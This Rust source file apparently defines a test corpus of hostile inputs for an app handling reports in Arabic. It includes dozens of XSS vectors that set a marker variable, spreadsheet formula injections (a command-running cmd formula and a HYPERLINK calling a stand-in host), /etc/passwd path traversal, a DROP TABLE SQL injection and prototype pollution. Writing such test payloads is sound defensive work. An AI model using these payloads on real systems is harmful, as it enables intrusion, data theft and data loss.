//! What hostile reports hold.

/// One attempt.
pub struct Payload {
    /// What it tries.
    pub tries: &'static str,
    /// The words, for a marker that would be set if they were run.
    pub make: fn(&str) -> String,
    /// Whether bytes that are no UTF-8 are put into the file besides.
    pub broken: bool,
}

const fn is(tries: &'static str, make: fn(&str) -> String) -> Payload {
    Payload { tries, make, broken: false }
}

/// Characters of a huge name.
const HUGE: usize = 100_000;
/// Depth of nesting.
const DEEP: usize = 5_000;

/// Statement that sets the marker.
fn set(m: &str) -> String {
    format!("window.__pwned='{m}'")
}

/// All of them.
pub const PAYLOADS: &[Payload] = &[
    is("script", |m| format!("<script>{}</script>", set(m))),
    is("script in capitals with a space", |m| format!("<ScRiPt >{}</sCrIpT >", set(m))),
    is("script within script", |m| format!("<scr<script>ipt>{}</scr</script>ipt>", set(m))),
    is("script of an address", |m| format!("<script src=\"data:text/javascript,{}\"></script>", set(m))),
    is("module", |m| format!("<script type=module>{}</script>", set(m))),
    is("image with onerror", |m| format!("<img src=x onerror=\"{}\">", set(m))),
    is("image with onerror and no quotes", |m| format!("<img/src=x/onerror={}>", set(m))),
    is("svg with onload", |m| format!("<svg onload=\"{}\"></svg>", set(m))),
    is("svg with script", |m| format!("<svg><script>{}</script></svg>", set(m))),
    is("svg with animate", |m| {
        format!(
            "<svg><a xlink:href=\"javascript:{0}\"><animate onbegin=\"{0}\" attributeName=x dur=1s></a></svg>",
            set(m)
        )
    }),
    is("svg with foreignObject", |m| {
        format!("<svg><foreignObject><body onload=\"{}\"></body></foreignObject></svg>", set(m))
    }),
    is("math", |m| format!("<math><mtext><mglyph><style><img src=x onerror=\"{}\">", set(m))),
    is("frame with srcdoc", |m| format!("<iframe srcdoc=\"<script>parent.{}</script>\"></iframe>", set(m))),
    is("frame of javascript", |m| format!("<iframe src=\"javascript:parent.{}\"></iframe>", set(m))),
    is("link of javascript", |m| format!("<a href=\"javascript:{}\">اقرأ</a>", set(m))),
    is("link of javascript with a tab", |m| format!("<a href=\"java\tscript:{}\">اقرأ</a>", set(m))),
    is("address of javascript alone", |m| format!("javascript:{}", set(m))),
    is("address of data", |m| format!("data:text/html,<script>opener.{}</script>", set(m))),
    is("details with ontoggle", |m| {
        format!("<details open ontoggle=\"{}\"><summary>س</summary></details>", set(m))
    }),
    is("input with onfocus", |m| format!("<input autofocus onfocus=\"{}\">", set(m))),
    is("video with onerror", |m| format!("<video><source onerror=\"{}\"></video>", set(m))),
    is("form of javascript", |m| {
        format!("<form><button formaction=\"javascript:{}\">أرسل</button></form>", set(m))
    }),
    is("object", |m| format!("<object data=\"javascript:{}\"></object>", set(m))),
    is("embed", |m| format!("<embed src=\"javascript:{}\">", set(m))),
    is("refresh", |m| format!("<meta http-equiv=refresh content=\"0;url=javascript:{}\">", set(m))),
    is("base", |m| format!("<base href=\"javascript:{}//\">", set(m))),
    is("portal of styles", |m| {
        format!("<style>@import 'javascript:{0}';*{{background:url(\"javascript:{0}\")}}</style>", set(m))
    }),
    is("style attribute", |m| {
        format!(
            "<div style=\"position:fixed;inset:0;background:url('javascript:{}');z-index:9999\">س</div>",
            set(m)
        )
    }),
    is("end of style", |m| format!("</style><script>{}</script>", set(m))),
    is("end of script", |m| format!("</script><script>{}</script>", set(m))),
    is("end of title", |m| format!("</title></head><script>{}</script>", set(m))),
    is("end of textarea", |m| format!("</textarea><script>{}</script>", set(m))),
    is("end of comment", |m| format!("--><script>{}</script><!--", set(m))),
    is("end of CDATA", |m| format!("]]><script>{}</script>", set(m))),
    is("end of an attribute", |m| format!("\" onmouseover=\"{0}\" autofocus onfocus=\"{0}\" x=\"", set(m))),
    is("end of an attribute, single", |m| {
        let m = m.to_owned();
        format!("' onmouseover='window.__pwned=`{m}`' autofocus onfocus='window.__pwned=`{m}`' x='")
    }),
    is("end of a string", |m| format!("\";{};//';{};//`;{};//", set(m), set(m), set(m))),
    is("template of double braces", |m| format!("{{{{constructor.constructor(\"{}\")()}}}}", set(m))),
    is("template of dollar", |m| format!("${{{}}}#{{{}}}", set(m), set(m))),
    is("template of percent", |m| format!("<%= {} %>{{% {} %}}", set(m), set(m))),
    is("written as entities", |m| {
        format!("&lt;script&gt;{}&lt;/script&gt;&#60;img src=x onerror={}&#62;", set(m), set(m))
    }),
    is("written as entities twice", |m| format!("&amp;lt;script&amp;gt;{}&amp;lt;/script&amp;gt;", set(m))),
    is("written as escapes", |m| {
        format!("\\u003cscript\\u003e{}\\u003c/script\\u003e\\x3cscript\\x3e", set(m))
    }),
    is("written in UTF-7", |m| format!("+ADw-script+AD4-{}+ADw-/script+AD4-", set(m))),
    is("NULs and other controls", |m| {
        format!("<scr\u{0}ipt>{}</scr\u{0}ipt>\u{1}\u{2}\u{8}\u{b}\u{c}\u{7f}\u{85}\u{9b}", set(m))
    }),
    Payload { tries: "broken UTF-8", make: |m| format!("<script>{}</script>\u{fffd}", set(m)), broken: true },
    is("direction overrides", |m| format!("\u{202e}{}\u{202d}مقلوب\u{202b}\u{202a}سوق", set(m))),
    is("open isolates", |m| format!("{}\u{2066}\u{2067}\u{2068}سوق{}", "\u{2067}".repeat(200), set(m))),
    is("signs without width", |m| {
        format!("س\u{200b}و\u{200c}ق\u{200d}\u{2060}\u{feff}\u{200e}\u{200f}\u{61c} {}", set(m))
    }),
    is("a name of 100,000 characters", |m| format!("{}{}", "ك".repeat(HUGE), set(m))),
    is("a letter with 20,000 marks", |m| format!("س{}{}", "\u{64b}\u{301}".repeat(10_000), set(m))),
    is("deep nesting", |m| {
        format!("{}<script>{}</script>{}", "<div><b>".repeat(DEEP), set(m), "[".repeat(DEEP))
    }),
    is("formula that calls out", |m| format!("=HYPERLINK(\"https://x.example/?{m}\",\"اضغط\")")),
    is("formula that runs a program", |m| format!("=cmd|' /C calc'!A0+{m}")),
    is("formulas by other signs", |m| {
        format!("@SUM(1+1)*{m}\t=1+1\r\n+1+1\n-1+1\n\u{ff1d}1+1\n\u{200b}=1+1")
    }),
    is("formula after a line break", |m| format!("\r\n=1+1;{m}\u{2028}=1+1\u{2029}=1+1")),
    is("colours and titles of a terminal", |m| {
        format!("\u{1b}[31mأحمر\u{1b}[0m\u{1b}]0;{m}\u{7}\u{1b}[2J\u{9b}1A{m}")
    }),
    is("paths", |m| format!("../../../../etc/passwd\\..\\..\\{m}%00.txt file:///etc/passwd")),
    is("letters that look like others", |m| {
        format!("ѕсrірt аdmіn ܡܠܟ ﷽ ﻗﺼﻒ ｓｃｒｉｐｔ {m} \u{e000}\u{fffe}\u{10ffff}")
    }),
    is("queries and keys", |m| {
        format!(
            "'; DROP TABLE reports;-- \" OR NEAR(a b) NOT * __proto__ constructor %s%n {{\"__proto__\":{{\"x\":\"{m}\"}}}}"
        )
    }),
];
